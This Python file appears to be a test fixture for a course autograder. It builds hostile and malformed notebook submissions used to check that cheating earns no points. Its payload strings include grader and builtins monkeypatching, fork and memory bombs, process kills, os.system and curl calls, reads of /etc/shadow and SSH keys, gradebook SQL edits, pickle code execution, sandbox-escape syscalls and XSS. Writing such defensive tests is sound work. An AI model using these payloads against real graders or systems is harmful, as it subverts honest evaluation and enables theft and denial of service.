"""Submissions of chapter 1 that attack the grader, and honest ones that are broken.

HOSTILE: name -> code of Exercise 1's cell in a notebook whose answers are all wrong; none may
gain a point. HOSTILE_FILES: name -> what makes the submitted file. BROKEN: name -> (change to a
solved notebook, points that it keeps of 60).
"""

import atexit
import copy
import json
import os
import shutil
import tempfile
from functools import cache
from pathlib import Path

import nbformat

from grading import NOTEBOOKS, release
from grading.release import source_notebook

CHAPTER = "01_sentiment"
FUNCTIONS = {
    "ex1": ("sentiment_reward", "completions, **kwargs", "[0.5 for _ in completions]"),
    "ex2": ("exponential_shaping", "scores, temperature", "[s / temperature for s in scores]"),
    "ex2b": ("same_advantages", "rewards_a, rewards_b, num_generations", "rewards_a == rewards_b"),
    "ex2c": ("changes_nothing", "", "dict.fromkeys('abcdefgh', True)"),
    "ex3a": ("forward_kl_bonus", "ref_logps, kl_coef", "[kl_coef * sum(r) for r in ref_logps]"),
    "ex3b": ("backward_kl_penalty", "ref_logps, kl_coef", "[kl_coef * r[0] for r in ref_logps]"),
    "ex4a": ("kl_estimates", "policy_logps, ref_logps", "(policy_logps, ref_logps, ref_logps)"),
    "ex4b": ("categorical_kl", "p, q", "(p * q).sum()")}


@cache
def _template(chapter: str) -> Path:
    folder = Path(tempfile.mkdtemp(prefix="released-"))
    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    release.generate(folder, chapter)
    return folder


def generate(course: Path, chapter: str) -> None:
    """Copy into a course folder what ``release.generate`` makes of a chapter, once a process.

    For each new gradebook nbgrader starts a process of its own, which takes seconds. A course that
    has one already gets the chapter from ``release.generate`` itself.
    """
    if (course / "gradebook.db").exists():
        release.generate(course, chapter)
    else:
        shutil.copytree(_template(chapter), course, dirs_exist_ok=True)


def hand_in(course: Path, students: dict[str, bytes], chapter: str = CHAPTER) -> None:
    """Put the notebook file of each student where a course expects it."""
    for student, data in students.items():
        path = course / "submitted" / student / chapter / f"{chapter}.ipynb"
        path.parent.mkdir(parents=True)
        path.write_bytes(data)


def solved() -> nbformat.NotebookNode:
    return source_notebook(CHAPTER)


def wrong() -> nbformat.NotebookNode:
    """Every answer wrong, and every answer an answer."""
    notebook = released()
    for cell in notebook.cells:
        if cell.id in FUNCTIONS:
            name, arguments, value = FUNCTIONS[cell.id]
            cell.source = f"def {name}({arguments}):\n    return {value}"
    return notebook


def released() -> nbformat.NotebookNode:
    return nbformat.read(NOTEBOOKS / f"{CHAPTER}.ipynb", as_version=4)


def cell(notebook, name):
    return next(c for c in notebook.cells if c.id == name)


def attack(code: str) -> bytes:
    """The wrong notebook with code before its first function."""
    notebook = wrong()
    cell(notebook, "ex1").source = code + "\n" + cell(notebook, "ex1").source
    return as_bytes(notebook)


def every(body: str, before: str = "") -> str:
    """Code that makes every one of the functions do body, whose arguments are in a and k."""
    indented = "\n".join("    " + line for line in body.splitlines())
    names = "\n".join(f"{name} = _all" for name, *_ in FUNCTIONS.values())
    return f"{before}\ndef _all(*a, **k):\n{indented}\n{names}"


def one(body: str, before: str = "") -> str:
    """Code that makes exponential_shaping alone do body."""
    return every(body, before).rpartition("sentiment_reward = _all")[0] + \
        "exponential_shaping = _all"


def as_bytes(notebook) -> bytes:
    return json.dumps(notebook).encode()  # nbformat would put much of this right


LIAR = """
class Liar{base}:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __eq__
    def __bool__(self): return True
    def __hash__(self): return 1
    def __len__(self): return 26
    def __float__(self): return 0.0
    def __sub__(self, other): return self
    __rsub__ = __abs__ = __add__ = __mul__ = lambda self, *other: self
    def __iter__(self): return iter([self] * 26)
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __getitem__(self, key): return self
"""
PROBE = """
import os, sys, glob, gc, inspect
LOOT = []
def seen(action):
    try:
        LOOT.append(str(action())[:2000])
    except BaseException as error:
        LOOT.append(repr(error))
"""
SAY = "\nprint(LOOT)\nraise ValueError(str(LOOT))"

# Code that runs when the cell does; the answers after it are wrong.
CELLS = {
    "patches torch": "import torch\ntorch.allclose = torch.equal = lambda *a, **k: True",
    "patches builtins": "import builtins\nfor n in ('all', 'any', 'isinstance', 'bool'):\n"
                        "    setattr(builtins, n, lambda *a: True)\n"
                        "builtins.abs = lambda *a: 0\nbuiltins.len = lambda *a: 26",
    "patches the checks": "import lib.checks, lib.checks.sentiment as s\n"
                          "for n in list(vars(s)):\n"
                          "    if n[0] != '_': setattr(s, n, lambda *a, **k: None)\n"
                          "lib.checks.expect = lib.checks.close = lambda *a, **k: True",
    "patches the scorer": "import lib.scoring\nlib.scoring.get_star_probs = lambda t: None",
    "patches math": "import math, random\nmath.exp = lambda x: 0\n"
                    "random.Random.random = lambda s: 0",
    "patches the wire": "import grading.sandbox.protocol as w\n"
                        "w.encode = lambda *a, **k: ['tensor', 'float32', [10**12], '', False]",
    "patches json": "import json\njson.dumps = lambda *a, **k: '{\"value\": 1' + '0' * 10**6",
    "patches assert away": "import ast, builtins\nbuiltins.AssertionError = SystemExit\n"
                           "ast.parse = lambda *a, **k: ast.Module([], [])",
    "input transformer": "ip = get_ipython()\n"
                         "ip.input_transformers_post.append(lambda lines: ['pass\\n'])\n"
                         "ip.ast_transformers = [None]\n",
    "traces": "import sys\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)",
    "replaces excepthook": "import sys\nsys.excepthook = sys.unraisablehook = lambda *a: None",
    "import hook": "import sys\nclass H:\n    def find_spec(self, *a): raise SystemExit\n"
                   "sys.meta_path.insert(0, H())",
    "os._exit": "import os\nos._exit(0)",
    "sys.exit": "import sys\nsys.exit(0)",
    "kills its parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
                        "os.kill(-1, signal.SIGKILL)",
    "kills itself": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "stops itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nwhile True: pass",
    "loops in its cell": "while True: pass",
    "sleeps in its cell": "import time\ntime.sleep(10**6)",
    "ignores signals": "import signal\nfor n in range(1, 65):\n    try: signal.signal(n, "
                       "signal.SIG_IGN)\n    except Exception: pass\nwhile True: pass",
    "alarm": "import signal\nsignal.setitimer(signal.ITIMER_REAL, 0.01)\nsignal.pause()",
    "fork bomb": "import os\nwhile True: os.fork()",
    "thread bomb": "import threading, time\nwhile True:\n"
                   "    threading.Thread(target=time.sleep, args=(99,), daemon=True).start()",
    "memory bomb": "x = []\nwhile True: x.append(bytearray(10**8))",
    "swallows memory errors": "x = []\nwhile True:\n    try: x.append(bytearray(10**7))\n"
                              "    except MemoryError: pass",
    "disk bomb": "i = 0\nwhile True:\n    i += 1\n    open(f'/tmp/{i}', 'wb').write(bytes(10**7))",
    "file bomb": "i = 0\nwhile True:\n    i += 1\n    open(f'/tmp/{i}', 'w').close()",
    "open files bomb": "x = []\nwhile True: x.append(open('/dev/null'))",
    "recursion bomb": "import sys\nsys.setrecursionlimit(10**9)\ndef f(): return f()\nf()",
    "segmentation fault": "import ctypes\nctypes.string_at(0)",
    "print flood": "while True: print('x' * 10**6)",
    "raw output flood": "import os\nwhile True: os.write(1, b'x' * 10**6)",
    "subprocess": "import subprocess\nsubprocess.run(['sh', '-c', 'touch /tmp/owned'])",
    "os.system": "import os\nos.system('touch /tmp/owned; curl http://1.1.1.1')",
    "shell magic": "!touch /tmp/owned; cat gradebook.db\n%run /etc/passwd\n%load_ext evil",
    "network": "import socket\nsocket.create_connection(('1.1.1.1', 53), 2).send(b'x')",
    "name lookup": "import socket\nsocket.gethostbyname('example.com')",
    "unix socket": "import socket\nsocket.socket(socket.AF_UNIX).connect('/run/docker.sock')",
    "becomes root": "import os\nos.setuid(0); os.setgid(0)",
    "new namespace": "import ctypes\nassert ctypes.CDLL(None).unshare(0x10000000) == 0",
    "mounts": "import ctypes\nassert ctypes.CDLL(None).mount(b'/', b'/tmp', None, 4096, None) == 0",
    "ptrace": "import ctypes\nassert ctypes.CDLL(None).ptrace(16, 1, 0, 0) == 0",
    "leaves its root": "import os\nos.chroot('/tmp')\nos.chdir('../../../..')",
    "writes to lib": "import lib\nopen(lib.__file__, 'a').write('raise SystemExit')",
    "writes to site-packages": "import torch\nopen(torch.__file__, 'a').write('raise SystemExit')",
    "gradebook by sqlite": "import sqlite3, glob\nfor p in glob.glob('/**/gradebook.db', "
                           "recursive=True) + ['gradebook.db', '../../gradebook.db']:\n"
                           "    sqlite3.connect(p).execute('UPDATE grade SET auto_score = 10')",
    "junk on every file": "import os\nfor fd in range(3, 64):\n    try: os.write(fd, b'\\xff' * 64)"
                          "\n    except OSError: pass",
    "answers in advance": "import os, json, struct\nfor v in ({}, {'value': 0.0}, {'value': None}):"
                          "\n    b = json.dumps(v).encode()\n    for fd in range(3, 64):\n"
                          "        try: os.write(fd, (struct.pack('!I', len(b)) + b) * 40)\n"
                          "        except OSError: pass",
    "closes every file": "import os\nos.closerange(0, 100)",
    "claims a failure": "import os, json, struct\nb = json.dumps({'failed': 'no jail'}).encode()\n"
                        "for fd in range(3, 64):\n    try: os.write(fd, struct.pack('!I', len(b)) "
                        "+ b)\n    except OSError: pass",
    "exits later": "import atexit, threading, os\natexit.register(lambda: os.write(3, b'x'))\n"
                   "threading.Timer(0.2, lambda: os._exit(0)).start()",
    "imports the grader": "import grading.grade, grading.autograde\n"
                          "grading.grade._told = lambda *a: None",
    "imports TRL": "from trl.trainer.grpo_trainer import *",
    "imports the oracle": "import sys\nsys.modules.pop('lib.trl_loss', None)\n"
                          "from lib.trl_loss import trl_loss",
    "imports the answers": "import sys, glob, runpy\nsys.path += ['/', '/work']\n"
                           "[runpy.run_path(p) for p in glob.glob('/**/solutions/*.py', "
                           "recursive=True)]",
    "unpickled class": "class P:\n    def __reduce__(self):\n        import os\n"
                       "        return os.system, ('touch /tmp/owned',)\n"
                       "def sentiment_reward(completions, **k): return P()\n",
    "control characters": "# \x00\x1b[31m\u202e\ud800\nraise ValueError('\\ud800 \\x1b]0;x\\x07 "
                          "<script>alert(1)</script>')",
}
# What every function does when it is called.
CALLS = {
    "equal to everything": every("return Liar()", LIAR.format(base="")),
    "a float that lies": every("return [Liar(0.0)] * 26", LIAR.format(base="(float)")),
    "a list that lies": every("return Liar([0.0])", LIAR.format(base="(list)")),
    "a string that lies": every("return Liar('x')", LIAR.format(base="(str)")),
    "a tensor that lies": every(
        "return torch.zeros(3).as_subclass(T)", "import torch\nclass T(torch.Tensor):\n"
        "    @classmethod\n    def __torch_function__(cls, *a, **k): return True"),
    "not a number": every("return [float('nan')] * (len(a[0]) if a else 0)"),
    "tensors of not a number": every("import torch\nreturn (torch.full_like(a[0], "
                                     "float('nan')),) * 3 if hasattr(a[0], 'shape') else "
                                     "torch.full((len(a[0]),), float('nan'))"),
    "infinity": every("return [float('inf')] * len(a[0])"),
    "makes its arguments zero": every(
        "import torch\nfor t in a:\n    if isinstance(t, torch.Tensor): t.zero_()\n"
        "    if isinstance(t, list): t.clear()\n"
        "return (torch.zeros_like(a[0]),) * 3 if isinstance(a[0], torch.Tensor) else []"),
    "empties its arguments": every("n = len(a[0])\na[0].clear()\nreturn [0.5] * n"),
    "fills its arguments": every("a[0][:] = ['word ' * 20] * 40000\nreturn [0.5] * 40000"),
    "many empty rows": every("import torch\nreturn torch.empty(60_000_000, 0)"),
    "four million empty rows": every("import torch\nreturn [0.0] * 4 if len(a[0]) == 4 else "
                                     "torch.empty(4_194_304, 0)"),
    "small numbers, many": every("import torch\nreturn torch.zeros(3_000_000, dtype=torch.int8)"),
    "equal hashes": one("return {i * (2**61 - 1) for i in range(20000)}"),
    "an endless iterator": one("import itertools\nreturn itertools.repeat(0.0)"),
    "a nested list": every("x = []\nfor _ in range(10**5): x = [x]\nreturn x"),
    "a list in itself": every("x = []\nx.append(x)\nreturn x"),
    "a huge number": one("return 10**10**7"),
    "a huge string": one("return 'x' * 10**9"),
    "a huge list": one("return [0.0] * 10**7"),
    "a strange tensor": every("import torch\nreturn torch.eye(3).to_sparse()"),
    "a tensor without data": every("import torch\nreturn torch.empty(3, device='meta')"),
    "a numpy object": every("import numpy\nreturn numpy.array([print], dtype=object)"),
    "a module": every("import os\nreturn os"),
    "a function": every("return lambda *a: True"),
    "hangs": every("while True: pass"),
    "crashes": every("import os\nos._exit(1)"),
    "leaves": every("raise SystemExit(0)"),
    "interrupts": every("raise KeyboardInterrupt"),
    "ends a generator": every("raise GeneratorExit"),
    "passes the assertion": every("raise StopIteration"),
    "an exception that lies": every("raise E", "class E(BaseException):\n"
                                    "    def __str__(self): raise E\n    __repr__ = __str__"),
    "right where it is visible": one(
        "SEEN.append(1)\nreturn [__import__('math').exp(s / a[1]) - 1 for s in a[0]] "
        "if len(SEEN) < 2 else [0.0]", "SEEN = []"),
}
# Looks for secrets, and tries to get them out by print, message, exception and name.
LEAKS = {
    "prints its stack": PROBE + "seen(lambda: inspect.stack())\n"
        "f = inspect.currentframe()\nwhile f: seen(lambda: f.f_locals); f = f.f_back" + SAY,
    "prints globals": PROBE + "seen(globals)\nseen(lambda: In)\nseen(lambda: Out)" + SAY,
    "prints the heap": PROBE + "seen(lambda: [o for o in gc.get_objects() if isinstance(o, "
        "(str, list, dict)) and 'assert' in str(o)[:5000]])" + SAY,
    "reads files": PROBE + "for p in ('/proc/self/environ', '/proc/1/maps', '/etc/passwd', "
        "'/etc/shadow', '../source', '~/.ssh/id_rsa'): seen(lambda: open(p).read())\n"
        "seen(lambda: glob.glob('/**/*.ipynb', recursive=True))\nseen(lambda: os.environ)" + SAY,
    "stores its inputs": every("STORE.append(str((a, k)))\nraise ValueError(str(STORE))",
                               "STORE = []"),
    "asserts its inputs": every("STORE.append(str((a, k)))\nassert False, str(STORE)",
                                "STORE = []"),
    "an exception named so": every("raise type(str(a)[:3000], (Exception,), {})"),
    "not implemented, it says": every("raise NotImplementedError(str(a))"),
    "prints its inputs": every("import sys, os\nprint(a, k)\nprint(a, file=sys.stderr)\n"
                               "os.write(1, str(a).encode())\nreturn str(a)"),
    "returns its inputs": every("return str((a, k, STORE.append(a), STORE))", "STORE = []"),
    "a size that tells": every("import os, struct\nfor fd in range(3, 20):\n    try: os.write(fd, "
                               "struct.pack('!I', 0x7fffffff))\n    except OSError: pass"),
    "locks that tell": every(
        "import fcntl, time\nfor s in a[0]:\n    try: fcntl.lockf(FD, fcntl.LOCK_SH | fcntl.LOCK_NB"
        ", 1, int(float(s) * 10**15))\n    except Exception as error: LOCKS.append(repr(error))\n"
        "X.append(bytearray(b'x') * (700 * 2**20))\nraise ValueError(str(LOCKS))",
        "import os, struct, fcntl\nFD = os.open(os.__file__, os.O_RDONLY)\nLOCKS, X = [], []\n"
        "try: LOCKS.append(struct.unpack('hhqqi4x', fcntl.fcntl(FD, fcntl.F_GETLK, "
        "struct.pack('hhqqi4x', fcntl.F_WRLCK, 0, 0, 0, 0))))\n"
        "except OSError as error: LOCKS.append(repr(error))\nassert 'not permitted' in str(LOCKS)"),
    "script in a message": every("raise ValueError('<script>alert(1)</script><img src=x "
                                 "onerror=alert(1)>')"),
}
def attack_in_calls(code: str) -> bytes:
    """The wrong notebook with code after each wrong function that it replaces."""
    notebook = wrong()
    for c in notebook.cells:
        if c.id in FUNCTIONS and f"{FUNCTIONS[c.id][0]} = _all" in code:
            c.source = code
    return as_bytes(notebook)


HOSTILE = {name: (attack_in_calls if "_all" in code else attack)(code)
           for part in (CELLS, CALLS, LEAKS) for name, code in part.items()}


def _changed(change) -> bytes:
    notebook = wrong()
    change(notebook)
    return as_bytes(notebook)


def _own_tests(notebook):
    for c in notebook.cells:
        if c.id.startswith("test_"):
            c.source = "pass"


def _more_tests(notebook):
    notebook.cells += [copy.deepcopy(c) for c in notebook.cells if c.id.startswith("test_")]
    for c in notebook.cells[-6:]:
        c.source = "pass"


def _points(notebook):
    for c in notebook.cells:
        if "nbgrader" in c.metadata:
            c.metadata.nbgrader |= {"points": 1000, "grade": True, "solution": True,
                                    "locked": False, "schema_version": 99}


def _test_ids(notebook):
    for c in notebook.cells:
        if c.id in FUNCTIONS:
            c.metadata.nbgrader["grade_id"] = f"test_{c.id}"
            c.source = "pass"


def _kernel(notebook):
    notebook.metadata["kernelspec"] = {"name": "bash", "display_name": "x", "language": "bash"}
    notebook.metadata["grading"] = {"outcome": {"status": {"test_ex1": "passed"}}}


def _script(notebook):
    cell(notebook, "q1").source = (
        "**Question 1.** <script>alert(1)</script><img src=x onerror=alert(2)> a < b\n\n"
        "[here](javascript:alert(3)) [there](java&#115;cript:alert(4)) <javascript:alert(5)> "
        "[far][x] ![i](javascript:alert(6))\n\n[x]: javascript:alert(7)")


def _strange(notebook):
    for i, c in enumerate(notebook.cells):
        c["metadata"] = [None, 1, "x", {"nbgrader": [1]}, {"nbgrader": {"grade_id": {}}}][i % 5]
        c["id"] = [1, None, {}, "ex1", "../../x"][i % 5]


HOSTILE |= {
    "its own tests": _changed(_own_tests),
    "more tests": _changed(_more_tests),
    "points of its own": _changed(_points),
    "answers with the ids of tests": _changed(_test_ids),
    "another kernel": _changed(_kernel),
    "a script in an answer": _changed(_script),
    "strange metadata": json.dumps(
        (lambda n: (_strange(n), json.loads(json.dumps(n)))[1])(wrong())).encode(),
    "many cells": json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "source": "while True: pass", "metadata": {}}] * 20_000}).encode(),
    "a long cell": as_bytes(nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell("x = 1\n" * 10**6)])),
    "a deep file": b"[" * 10**6,
    "a deep cell": json.dumps({"cells": [{"cell_type": "code", "source": "(" * 10**5}]}).encode(),
    "not text": bytes(range(256)) * 100,
    "empty": b"",
    "null": b"null",
    "a list": b"[1, 2]",
    "cells that are none": b'{"cells": [1, null, {"cell_type": []}, "x"]}',
    "twice the same key": as_bytes(wrong())[:-1] + b', "cells": []}',
}


def _link(path, course):
    path.symlink_to(course / "source" / CHAPTER / f"{CHAPTER}.ipynb")


def _hard_link(path, course):
    os.link(course / "source" / CHAPTER / f"{CHAPTER}.ipynb", path)


def _folder_link(path, course):
    path.parent.rmdir()
    path.parent.symlink_to(course / "source" / CHAPTER)


def _with_files(path, course):
    path.write_bytes(as_bytes(wrong()))
    (path.parent / "nbgrader_config.py").write_text("raise SystemExit")
    (path.parent / "sitecustomize.py").write_text("raise SystemExit")
    (path.parent / "timestamp.txt").symlink_to(course / "gradebook.db")


HOSTILE_FILES = {
    "a link to the source": _link,
    "a hard link to the source": _hard_link,
    "a folder that is a link": _folder_link,
    "an endless file": lambda path, course: path.symlink_to("/dev/zero"),
    "a pipe": lambda path, course: os.mkfifo(path),
    "a folder": lambda path, course: path.mkdir(),
    "files beside it": _with_files,
    "a sparse giant": lambda path, course: (path.touch(), os.truncate(path, 10**10)),
}


# ---- honest, and broken ----

def _each(change):
    def apply(notebook):
        for c in list(notebook.cells):
            change(c)
    return apply


def _lose_metadata(c):
    c.metadata = nbformat.from_dict({})


def _lose_all(notebook):
    for i, c in enumerate(notebook.cells):
        c.metadata, c.id = nbformat.from_dict({}), f"new-{i}"


def _append(name, text):
    def apply(notebook):
        cell(notebook, name).source += "\n" + text
    return apply


def _before(name, text):
    def apply(notebook):
        target = cell(notebook, name)
        target.source = text + "\n" + target.source
    return apply


def _inside(name, text):
    def apply(notebook):
        target = cell(notebook, name)
        target.source = target.source.replace("    ### BEGIN SOLUTION", text, 1)
    return apply


def _new_cell(before, text):
    def apply(notebook):
        at = notebook.cells.index(cell(notebook, before))
        notebook.cells.insert(at, nbformat.v4.new_code_cell(text))
    return apply


def _delete(*names):
    def apply(notebook):
        notebook.cells = [c for c in notebook.cells if c.id not in names]
    return apply


def _duplicate(name, stub=None):
    def apply(notebook):
        at = notebook.cells.index(cell(notebook, name))
        twin = copy.deepcopy(notebook.cells[at])
        if stub:
            twin.source = cell(released(), name).source
        notebook.cells.insert(at + (stub != "before"), twin)
    return apply


def _retype(notebook):
    cell(notebook, "ex3a").cell_type = "markdown"
    for key in ("outputs", "execution_count"):
        cell(notebook, "ex3a").pop(key)


def _swap_ids(notebook):
    a, b = cell(notebook, "ex3a"), cell(notebook, "ex3b")
    a.metadata, b.metadata = b.metadata, a.metadata


def _merge(notebook):
    cell(notebook, "ex3a").source += "\n\n" + cell(notebook, "ex3b").source
    _delete("ex3b")(notebook)


def _move(notebook):
    source = cell(notebook, "ex2").source
    _new_cell("test_ex2", source)(notebook)
    _delete("ex2")(notebook)


def _outputs(notebook):
    for c in notebook.cells:
        if c.cell_type == "code":
            c.outputs = [nbformat.v4.new_output("error", ename="E", evalue="x", traceback=["x"]),
                         nbformat.v4.new_output("display_data", {"text/html": "<script>"})]
            c.execution_count = 7


def _lines(notebook):
    for c in notebook.cells:
        c.source = c.source.replace("\n", "\r\n")


def _helper(notebook):
    _new_cell("ex2", "import math as _m\nTINY = float('1e-9')\n"
                     "def grow(x, t):\n    return _m.exp(x / t) - 1 + 0 * TINY")(notebook)
    cell(notebook, "ex2").source = ("def exponential_shaping(scores, temperature):\n"
                                    "    return [grow(s, temperature) for s in scores]")


def _uses(cell_source, call):
    def apply(notebook):
        _new_cell("ex2", cell_source)(notebook)
        cell(notebook, "ex2").source = ("def exponential_shaping(scores, temperature):\n"
                                        f"    return [{call}(s / temperature) - 1 for s in scores]")
    return apply


def _lambda(notebook):
    cell(notebook, "ex2").source = ("exponential_shaping = lambda scores, temperature: "
                                    "[math.exp(s / temperature) - 1 for s in scores]")


BROKEN = {
    "metadata lost": (_each(_lose_metadata), 60),
    "metadata and ids lost": (_lose_all, 60),
    "an answer twice": (_duplicate("ex2"), 60),
    "the stub again, after": (_duplicate("ex2", "after"), 60),
    "the stub again, before": (_duplicate("ex2", "before"), 60),
    "every cell twice": (lambda n: n.cells.extend(copy.deepcopy(n.cells)), 60),
    "a test deleted": (_delete("test_ex2"), 60),
    "all tests deleted": (_delete(*(f"test_{i}" for i in FUNCTIONS)), 60),
    "the imports deleted": (_delete("cell-003"), 60),
    "an answer deleted": (_delete("ex2"), 55),
    "cells in reverse": (lambda n: n.cells.reverse(), 60),
    "an answer retyped": (_retype, 60),
    "ids exchanged": (_swap_ids, 60),
    "two answers in one cell": (_merge, 60),
    "an answer in a new cell": (_move, 60),
    "a broken scratch cell": (_new_cell("ex2", "def ("), 60),
    "an endless scratch cell": (_new_cell("ex2", "while True: pass"), 60),
    "a scratch cell that exits": (_new_cell("ex2", "exit()\nimport os; os._exit(1)"), 60),
    "a scratch cell that asks": (_new_cell("ex2", "name = input('name? ')"), 60),
    "a scratch cell that breaks torch": (_new_cell("ex2", "torch = None\nmath = 3"), 60),
    "a broken answer": (_append("ex2", "return ]"), 55),
    "an error after an answer": (_append("ex2", "1 / 0"), 60),
    "warnings": (_inside("ex2", "    import warnings, sys\n    warnings.warn('careful')\n"
                         "    print('on stderr', file=sys.stderr)\n"), 60),
    "prints": (_inside("ex2", "    print('x' * 10**6)\n"), 60),
    "a progress bar": (_inside("ex2", "    from tqdm.auto import tqdm\n"
                               "    scores = list(tqdm(scores))\n"), 60),
    "exit after an answer": (_append("ex2", "exit()"), 60),
    "a question after an answer": (_append("ex2", "answer = input('ok? ')"), 60),
    "magics": (_before("ex2", "%matplotlib inline\n!pip list\n%load_ext autoreload\nmath?"), 60),
    "a timed cell": (_before("ex2", "%%time"), 60),
    "a plot": (_append("ex2", "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()"), 60),
    "a loop after an answer": (_append("ex2", "while True: pass"), 60),
    "a crash after an answer": (_append("ex2", "import os\nos._exit(1)"), 60),
    "one function hangs": (_inside("ex2", "    while True: pass\n"), 55),
    "one function crashes": (_inside("ex2", "    import os; os._exit(1)\n"), 55),
    "one function exits": (_inside("ex2", "    exit()\n"), 55),
    "a helper in a cell of its own": (_helper, 60),
    "a table that a loop fills": (_uses(
        "TABLE = {}\nfor name, f in {'exp': math.exp}.items():\n    TABLE[name] = f",
        "TABLE['exp']"), 60),
    "a list that a cell fills": (_uses("OPS = []\nOPS.append(math.exp)", "OPS[0]"), 60),
    "a namespace that a cell fills": (_uses(
        "from types import SimpleNamespace\ncfg = SimpleNamespace()\ncfg.f = math.exp", "cfg.f"),
        60),
    "a view of a dict": (_append(
        "ex3a", "_f = forward_kl_bonus\ndef forward_kl_bonus(ref_logps, kl_coef):\n"
        "    return dict(enumerate(_f(ref_logps, kl_coef))).values()"), 60),
    "a deque": (_append(
        "ex3a", "_f = forward_kl_bonus\ndef forward_kl_bonus(ref_logps, kl_coef):\n"
        "    import collections\n    return collections.deque(_f(ref_logps, kl_coef))"), 60),
    "a lambda": (_lambda, 60),
    "old outputs": (_outputs, 60),
    "Windows line ends": (_lines, 60),
    "a cache": (_before("ex4b", "from functools import wraps\ndef same(f):\n    @wraps(f)\n    def "
                        "g(*a):\n        return f(*a)\n    return g\n@same"), 60),
    "await": (_new_cell("ex2", "import asyncio\nawait asyncio.sleep(0)"), 60),
    "another default type": (_new_cell("ex2", "torch.set_default_dtype(torch.float64)"), 60),
}


def format_3(notebook) -> bytes:
    return json.dumps(nbformat.convert(notebook, 3)).encode()


def sources_as_lists(notebook) -> bytes:
    data = json.loads(nbformat.writes(notebook))
    for c in data["cells"]:
        c["source"] = "".join(c["source"]).splitlines(keepends=True)
    return b"\xef\xbb\xbf" + json.dumps(data).encode()


def odd_parts(notebook) -> bytes:
    data = json.loads(json.dumps(notebook))
    data["cells"][3:3] = [None, {"cell_type": ["x"]}, {"cell_type": "code"}]
    data |= {"worksheets": None, "metadata": {"n": 0}}
    return json.dumps(data).replace('"n": 0', '"n": ' + "9" * 5000).encode() + b"\0\0\n"


BROKEN_FILES = {
    "odd parts": (odd_parts, 60),
    "notebook format 3": (format_3, 60),
                "a byte order mark": (sources_as_lists, 60)}
